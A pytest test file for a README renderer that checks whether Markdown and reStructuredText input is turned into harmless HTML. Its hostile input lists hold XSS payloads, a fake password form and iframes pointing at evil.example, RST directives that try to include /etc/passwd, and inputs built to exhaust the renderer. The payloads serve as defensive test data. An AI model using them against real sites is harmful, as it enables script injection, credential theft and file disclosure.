"""READMEs: shown as their authors meant them, and harmless whatever they meant."""

import resource
import sys
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest

from packages import readmes
from packages.readmes import Readme, apart, rendering, with_images

MARKDOWN, RST = "text/markdown", "text/x-rst"
VOID = {"br", "hr", "img", "col"}

# Never part of a README's page, whatever it says.
FORBIDDEN_TAGS = {
    *("script", "style", "iframe", "object", "embed", "applet", "form", "input", "button", "select", "textarea"),
    *("svg", "math", "base", "meta", "link", "template", "video", "audio", "source", "frame", "frameset", "h1"),
    *("main", "header", "footer", "nav", "aside", "section", "html", "body", "head", "title", "noscript", "marquee"),
}
ALLOWED_ATTRIBUTES = {
    *("id", "href", "title", "rel", "src", "alt", "width", "height", "align", "class", "colspan", "rowspan", "start"),
    *("loading", "referrerpolicy"),
}


class Page(HTMLParser):
    """A README as a browser would read it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.open: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a declaration: {data}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")

    def all(self, tag: str) -> list[dict[str, str]]:
        return [attributes for name, attributes in self.tags if name == tag]

    def classes(self) -> set[str]:
        return {one for _, attributes in self.tags for one in attributes.get("class", "").split()}


def assert_harmless(html: str) -> Page:
    page = Page(html)
    assert page.open == [], "every tag is closed: it cannot swallow what follows it"
    for tag, attributes in page.tags:
        assert tag not in FORBIDDEN_TAGS
        assert attributes.keys() <= ALLOWED_ATTRIBUTES, (tag, attributes)
        assert attributes.get("id", "readme-").startswith("readme-")
        if tag == "a":
            href = attributes.get("href", "#readme-")
            assert href.startswith("#readme-") or urlsplit(href).scheme in {"http", "https", "mailto"}
            assert attributes["rel"] == "nofollow noopener noreferrer"
        else:
            assert "href" not in attributes
        if tag == "img":
            assert urlsplit(attributes["src"]).scheme in {"http", "https"}
            assert "alt" in attributes
        else:
            assert "src" not in attributes
    for one in page.classes() - {"highlight", "readme-image"}:
        # As short as pygments' own, and none of ours.
        assert len(one) <= 3
        assert one in rendering_classes()
    return page


def rendering_classes() -> set[str]:
    from pygments.token import STANDARD_TYPES

    return set(STANDARD_TYPES.values())


def shown(text: str, content_type: str | None = MARKDOWN) -> Page:
    return assert_harmless(readmes.render(text, content_type).html)


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="http://a.example/x" onerror="alert(1)" onload=alert(2) style="position:fixed">',
    "<img src=data:image/svg+xml;base64,PHN2Zz4= alt=d>",
    '<img src="javascript:alert(1)">',
    '<img srcset="http://a.example/x 2x" src="http://a.example/y" alt="s">',
    '<picture><source srcset="data:image/png;base64,AA=="><img src="http://a.example/z"></picture>',
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  java\tscript\n:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/manage/'>x</a>",
    "<a href='?next=1'>x</a>",
    "<a href='https:evil'>x</a>",
    '<a href="http://a.example" target="_blank" rel="opener" ping="http://b.example" download>x</a>',
    "[x](javascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](jav&Tab;ascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#0000106avascript:alert(1))",
    "[x](JaVaScRiPt:alert(1) 'title')",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "<javascript:alert(1)>",
    '![a"onerror="alert(1)](http://a.example/"onerror="alert(1))',
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;top:0'>x</p>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password type=password><button>Log in</button></form>",
    "<input type=checkbox onclick=alert(1) autofocus>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<video src=x onerror=alert(1)><audio src=x>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "<div id=csrfmiddlewaretoken><a id=location name=document>x</a></div>",
    "<p class='button primary'>x</p><span class='status row readme-image k'>y</span><pre class='command'>z</pre>",
    "<!-- a comment --><p>x</p><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html><p>x</p>",
    "<div><p><b><a href=http://a.example>never closed",
    "</div></div></main></body></html><p>out of it</p>",
    "<a href=http://a.example><a href=http://b.example>nested</a></a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<template><script>alert(1)</script></template>",
    "<table><tr><td><script>alert(1)</script></table><table><form><script>alert(1)</script></form></table>",
    "<select><option><script>alert(1)</script></option></select>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    '<abbr title="`><script>alert(1)</script>">x</abbr>',
    "```<script>\nalert(1)\n```",
    '```python" onclick="alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800 a lone surrogate, \u202e turned round, \U0001f600",
    "<h1 id=a align='x' onclick=y>t</h1>",
    "<td background=javascript:alert(1)>",
    "<a href='mailto:a@b.example'>m</a><a href='MAILTO:a@b.example'>m</a><a href='HTTPS://a.example'>h</a>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_does_no_harm(text: str) -> None:
    for written in (text, f"# t\n\n> {text}\n\n- {text}\n\n| a |\n|---|\n| {text} |\n", f"{text}\n\nend"):
        page = assert_harmless(readmes.render(written, MARKDOWN).html)
        assert assert_harmless(with_images(readmes.render(written, MARKDOWN).html, False)).all("img") == []
        assert page.tags or page.text


@pytest.mark.parametrize("text", HOSTILE[::6])
@pytest.mark.parametrize("content_type", [RST, "text/plain", None, "text/html", "", "nonsense", "a\nb: c"])
def test_nothing_else_does_harm_either(text: str, content_type: str | None) -> None:
    shown(text, content_type)


@pytest.mark.parametrize(
    "text",
    [
        ".. raw:: html\n\n   <script>alert(1)</script>",
        ".. raw:: html\n   :file: /etc/passwd",
        ".. raw:: html\n   :url: http://127.0.0.1:9/",
        ".. include:: /etc/passwd",
        ".. include:: /etc/passwd\n   :literal:",
        ".. include:: <isonum.txt>\n\n|copy|",
        ".. csv-table::\n   :file: /etc/passwd",
        ".. csv-table::\n   :url: file:///etc/passwd",
        ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>alert(1)</script>`",
        ".. code:: python\n   :include: /etc/passwd\n\n   x",
        ".. image:: javascript:alert(1)",
        ".. image:: data:image/png;base64,AA==",
        ".. image:: http://a.example/x.svg\n   :target: javascript:alert(1)\n   :alt: a",
        ".. figure:: /etc/passwd\n   :figclass: button",
        "`x <javascript:alert(1)>`_",
        ".. _x: javascript:alert(1)\n\nx_",
        ".. class:: button status\n\nx",
        ".. container:: button\n\n   x",
        ".. meta::\n   :http-equiv=refresh: 0;url=//evil.example\n\nx",
        ".. _csrfmiddlewaretoken:\n\nx\n\n:sub:`a`",
        ".. math:: \\href{javascript:alert(1)}{x}",
        ".. parsed-literal::\n\n   `x <javascript:alert(1)>`_",
        ".. unicode:: 0x3C\n",
        ".. |a| replace:: <script>alert(1)</script>\n\n|a|",
        ".. role:: button\n\n:button:`x`",
        ":Author: <script>alert(1)</script>\n\nx",
    ],
)
def test_restructuredtext_does_no_harm(text: str) -> None:
    page = shown(text, RST)
    assert "root:" not in page.text
    assert "readme-image" in page.classes() or not page.all("img") or page.all("img")[0]["src"].startswith("http")


class TestMarkdown:
    def test_is_read_as_github_reads_it(self) -> None:
        text = (
            "# Demo\n\n## Use it\n\n| a | b |\n|---|:-:|\n| 1 | 2 |\n\nSee https://docs.example.org, ~~not~~ "
            "[there](#use-it).\n\n- [x] done\n- [ ] open\n\n```python\ndef f(): return 1\n```\n\n"
            "Noted.[^1]\n\n[^1]: The note.\n\n<p align='center'><b>Yes</b></p>\n"
        )
        readme = readmes.render(text, "text/markdown; charset=UTF-8; variant=GFM")
        page = assert_harmless(readme.html)
        assert readme.how == "markdown"
        assert page.all("h2") == [{"id": "readme-demo"}]
        assert page.all("h3") == [{"id": "readme-use-it"}]
        assert len(page.all("td")) == 2
        links = [link["href"] for link in page.all("a")]
        assert links[:2] == ["https://docs.example.org", "#readme-use-it"]
        assert {"readme-fn-1", "readme-fnref-1"} <= {attributes.get("id", "") for _, attributes in page.tags}
        assert "☑ done" in page.text
        assert "☐ open" in page.text
        assert page.all("pre") == [{"class": "highlight"}]
        assert {"class": "k"} in page.all("span")
        assert {"align": "center"} in page.all("p")

    def test_without_its_variant_is_the_same(self) -> None:
        table = "| a |\n|---|\n| 1 |\n"
        assert shown(table, "text/markdown").all("table")
        assert shown(table, "Text/Markdown; variant=gfm").all("table")
        assert shown(table, 'text/markdown; variant="unheard of"').all("table")
        assert not shown(table, "text/markdown; variant=CommonMark").all("table")

    def test_headings_stand_below_that_of_the_page(self) -> None:
        page = shown("\n\n".join(f"{'#' * level} {level}" for level in range(1, 7)))
        assert [tag for tag, _ in page.tags if tag[0] == "h"] == ["h2", "h3", "h4", "h5", "h6", "h6"]

    @pytest.mark.parametrize("language", ["", "no-such-language", "make", "python\tx", "ŝ"])
    def test_code_in_other_languages_is_not_coloured(self, language: str) -> None:
        page = shown(f"```{language}\nif x < 1: pass\n```")
        assert "if x < 1: pass" in page.text

    @pytest.mark.parametrize("language", rendering.LANGUAGES.split())
    def test_every_language_has_its_lexer(self, language: str) -> None:
        readme = readmes.render(f"```{language}\nx = 1\n```", MARKDOWN)
        assert readme.how == "markdown"
        assert "x = 1" in assert_harmless(readme.html).text

    def test_only_some_code_is_coloured(self) -> None:
        long = "x = 1\n" * (rendering.LONGEST_CODE // 6 + 1)
        assert not shown(f"```python\n{long}```").all("span")
        blocks = "```python\n" + "x = 1\n" * 200 + "```\n\n"
        page = shown(blocks * 20)
        assert len(page.all("pre")) == 20
        assert 0 < sum("mi" in one.get("class", "") for one in page.all("span")) * 6 <= rendering.MOST_CODE

    def test_a_long_one_is_rendered_too(self) -> None:
        text = "# Demo\n\n" + "Some *text* with `code`.\n\n" * 2000
        assert len(text) > readmes.LONGEST_HERE
        readme = readmes.render(text, MARKDOWN)
        assert readme.how == "markdown"
        assert len(assert_harmless(readme.html).all("em")) == 2000


class TestRestructuredText:
    def test_is_what_has_no_type(self) -> None:
        text = (
            "Demo\n====\n\nUse\n---\n\nSome *text*, a `link <https://a.example>`_ and `Use`_.\n\n"
            ".. code-block:: python\n\n   def f(): return 1\n\n::\n\n   literal\n\n"
            "=== ===\n a   b\n=== ===\n 1   2\n=== ===\n\n.. image:: https://a.example/b.png\n   :alt: A badge\n"
        )
        for content_type in (None, " ", "text/x-rst", "text/x-rst; charset=UTF-8"):
            readme = readmes.render(text, content_type)
            page = assert_harmless(readme.html)
            assert readme.how == "rst"
            assert (len(page.all("h2")), len(page.all("h3")), len(page.all("td"))) == (1, 1, 2)
            assert [link["href"] for link in page.all("a")] == ["https://a.example", "#readme-use"]
            assert {"class": "k"} in page.all("span")
            assert page.all("img")[0]["alt"] == "A badge"

    @pytest.mark.parametrize(
        "text", ["Demo page\n====\n", "*never ended", ".. no-such-directive::", ":no-role:`x`", "|nothing|", "x_"]
    )
    def test_that_is_broken_is_shown_as_it_is_written(self, text: str) -> None:
        assert readmes.render(text, RST) == Readme(f"<pre>\n{text}</pre>", "plain")

    def test_the_settings_of_the_machine_do_not_count(self, tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
        (tmp_path / "docutils.conf").write_text("[general]\nraw_enabled: yes\nfile_insertion_enabled: yes\n")
        monkeypatch.chdir(tmp_path)
        assert readmes.render(".. include:: docutils.conf", None).how == "plain"

    def test_one_leaves_nothing_for_the_next(self) -> None:
        assert readmes.render(".. role:: mine\n\n:mine:`x`", None).how == "rst"
        assert readmes.render(":mine:`x`", None).how == "plain"


class TestPlain:
    @pytest.mark.parametrize("content_type", ["text/plain", "text/html", "application/x", "markdown", ";", "/"])
    def test_is_what_has_another_type(self, content_type: str) -> None:
        assert readmes.render("a <b> & *c*", content_type) == Readme("<pre>\na &lt;b&gt; &amp; *c*</pre>", "plain")

    @pytest.mark.parametrize("text", ["", " \n\t"])
    def test_is_nothing_where_nothing_is_written(self, text: str) -> None:
        for content_type in (MARKDOWN, RST, None):
            assert readmes.render(text, content_type) == Readme("", "plain")

    def test_is_what_is_too_long(self) -> None:
        text = "a *b*\n" * (readmes.LONGEST // 6 + 1)
        for content_type in (MARKDOWN, RST, "text/plain"):
            readme = readmes.render(text, content_type)
            assert readme.how == "plain"
            assert readme.html.endswith(f"</pre><p>{readmes.CUT}</p>")
            assert len(readme.html) < readmes.LONGEST + 200

    def test_is_what_raises(self, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
        def breaks(*_: object) -> str:
            raise RecursionError("too deep")

        monkeypatch.setattr(rendering, "_from_markdown", breaks)
        assert readmes.render("# x", MARKDOWN) == Readme("<pre>\n# x</pre>", "plain")
        assert "too deep" in caplog.text

    def test_is_what_takes_a_process_that_cannot_be_had(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(sys, "executable", "/nowhere/python")
        assert readmes.render("*x*", None) == Readme("<pre>\n*x*</pre>", "plain")


N = readmes.LONGEST
SLOW = {
    "quotes": ">" * N,
    "brackets": "[" * N,
    "emphasis": "*a**b" * (N // 5),
    "elements": "<div>" * (N // 5),
    "rows": "<table><tr><td>" * (N // 15),
    "formats": "".join(f"<b id={number}><p>" for number in range(N // 16)),
    "comments": "<!--" * (N // 4),
    "headings": "# a\n" * (N // 4),
    "table": "|" + "a|" * 9000 + "\n|" + "-|" * 9000 + "\n" + "|\n" * 100_000,
    "footnotes": "[^a] " * (N // 6) + "\n\n[^a]: x",
    "code": ("```java\n" + " a" * 2000 + "\n```\n\n") * (N // 4020),
}


def spent() -> float:
    """The time that this process and its children have computed, in seconds."""
    own, others = (resource.getrusage(who) for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN))
    return own.ru_utime + own.ru_stime + others.ru_utime + others.ru_stime


class TestTime:
    # Generous bounds: it is about minutes that it would take otherwise.

    @pytest.mark.parametrize("name", SLOW)
    def test_of_markdown_is_bounded(self, name: str) -> None:
        for text in (SLOW[name], SLOW[name][: readmes.LONGEST_HERE], ">" * 10_000, "[" * 10_000, "*" * 10_000):
            before = spent()
            assert readmes.render(text, MARKDOWN).html
            assert spent() - before < 15

    @pytest.mark.parametrize(
        "text",
        [
            # Each stands for the next one, twice.
            "".join(f".. |a{n}| replace:: |a{n + 1}| |a{n + 1}|\n" for n in range(40)) + ".. |a40| replace:: x\n\n|a0|",
            "".join(" " * n + "a\n\n" for n in range(900)),
            "- a\n\n" * (N // 5),
            ":a:\n" * (N // 4),
        ],
    )
    def test_of_restructuredtext_is_bounded(self, text: str) -> None:
        before = spent()
        assert readmes.render(text, None).how == "plain"
        assert spent() - before < 15

    def test_of_the_other_process_is_bounded_by_the_clock_too(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(readmes, "PATIENCE", 0.001)
        assert readmes.render("*x*", None).how == "plain"


def test_the_other_process_does_what_this_one_would(monkeypatch: pytest.MonkeyPatch, capsysbinary: Any) -> None:
    import io

    monkeypatch.setattr(apart, "limit", lambda seconds: None)
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"*x*")))
    apart.main("markdown", "GFM", 1)
    assert capsysbinary.readouterr().out == b"<p><em>x</em></p>\n"
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"*x")))
    with pytest.raises(SystemExit, match="Refused: "):
        apart.main("rst", "", 1)


class TestImages:
    @pytest.mark.parametrize(
        ("markdown", "alt"),
        [
            ("![A badge](https://a.example/b.svg)", "A badge"),
            ("![](https://a.example/b.svg)", "image"),
            ("<img src='https://a.example/b' alt=' '>", "image"),
            ("<img src='https://a.example/b'>", "image"),
            (
                "<img alt='a > b \"c\" <img src=x> &amp; d' src='https://a.example/?x=1&y=>'>",
                'a > b "c" <img src=x> & d',
            ),
            ("![x](docs/logo.png)", "x"),
            ("<img width=10 height='50%' align=left src=HTTPS://a.example/b alt=z title=t>", "z"),
        ],
    )
    def test_are_replaced_by_what_they_show(self, markdown: str, alt: str) -> None:
        html = readmes.render(f"before {markdown} after", MARKDOWN).html
        page = assert_harmless(with_images(html, False))
        assert page.all("img") == []
        assert page.all("span") == [{"class": "readme-image"}]
        assert page.text.split() == ["before", *alt.split(), "after"]

    def test_are_shown_where_that_is_wanted(self) -> None:
        html = readmes.render("[![b](https://a.example/b.svg)](https://a.example)", MARKDOWN).html
        assert with_images(html, True) == html
        (image,) = Page(html).all("img")
        assert image["referrerpolicy"] == "no-referrer"
        assert image["loading"] == "lazy"
        assert [link["href"] for link in Page(with_images(html, False)).all("a")] == ["https://a.example"]


@pytest.mark.parametrize(
    "content_type",
    [
        "text/markdown; variant*=a; variant*0=b",
        "text/plain; charset*=a; charset*0=b",
        "text/markdown; variant*" + "9" * 5000 + "=x",
        "text/markdown; variant*0*=utf-8'x; variant*0=y",
        "text/markdown\x00",
        "text/" + "x" * 100_000,
    ],
)
def test_of_a_type_that_is_none_is_shown_all_the_same(content_type: str) -> None:
    readme = readmes.render("# Title", content_type)
    assert "Title" in readme.html


class TestBeginnings:
    """A page shows the first part of a long README."""

    @pytest.mark.parametrize(
        ("text", "kind", "end"),
        [
            ("".join(f"## H{n}\n\nSome *text* of **{n}**.\n\n- a\n- b\n\n" for n in range(900)), MARKDOWN, None),
            ("".join(f"Head {n}\n-----------\n\nText *{n}*.\n\n* a\n* b\n\n" for n in range(900)), RST, None),
            ("- one\n" * 9000, MARKDOWN, "<li>one</li></ul>"),
            ("> - one\n" * 9000, MARKDOWN, "<li>one</li></ul></blockquote>"),
            ("|a|b|\n|-|-|\n" + "|1|2|\n" * 4000, MARKDOWN, "</tr></tbody></table>"),
            ("```\n" + "a < b\n" * 20_000 + "```\n", MARKDOWN, "\na &lt; b</code></pre>"),
            ("a < b & c\n" * 9000, "text/plain", "\na &lt; b &amp; c</pre>"),
            ("word <br> *word*\n" * 9000, MARKDOWN, "\nword <br> <em>word</em></p>"),
        ],
        ids=["markdown", "rst", "list", "quoted list", "table", "code", "plain", "paragraph"],
    )
    def test_end_where_a_block_or_a_line_does(self, text: str, kind: str, end: str | None) -> None:
        whole = readmes.render(text, kind).html
        part = readmes.beginning(whole)
        assert 25_000 <= len(part) <= 36_000 < len(whole)
        page = assert_harmless(part)
        assert page.open == []
        assert end is None or part.endswith(end), part[-100:]
        assert Page(whole).text.startswith(page.text.rstrip("\n"))

    @pytest.mark.parametrize("text", ["", "short", "word\n" * 7000 + "end", "x " * 40_000])
    def test_are_all_of_what_is_not_much_longer_or_cannot_be_divided(self, text: str) -> None:
        whole = readmes.render(text, MARKDOWN).html
        assert readmes.beginning(whole) == whole

    def test_leave_no_little_rest_out(self) -> None:
        whole = "<p>" + "x" * 40_000 + "</p>\n<p>end</p>"
        assert readmes.beginning(whole) == whole
